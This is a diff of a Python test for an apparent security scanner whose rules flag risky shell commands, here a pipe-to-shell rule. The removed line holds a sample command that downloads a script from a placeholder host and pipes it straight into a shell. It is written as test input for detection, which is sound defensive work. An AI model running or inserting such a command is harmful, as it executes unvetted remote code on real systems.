@@ -133,9 +133,13 @@ def test_a_rule_matches_once_per_line() -> None:
 
 
 def test_a_rule_does_not_read_kinds_it_does_not_target() -> None:
-    rule = _rule(PIPE_TO_SHELL)
+    shell_only = [
+        r for r in load_rules().rules if r.targets == frozenset({FileKind.SHELL}) and r.matches
+    ]
+    assert shell_only, "expected at least one shell-only rule in the packs"
+    rule = shell_only[0]
     assert not rule.reads(FileKind.PYTHON)
-    text = "curl https://x.example/i.sh | sh\n"
+    text = rule.matches[0].text
     assert rule_matches_text(rule, text, FileKind.SHELL)
     assert not rule_matches_text(rule, text, FileKind.PYTHON)
 
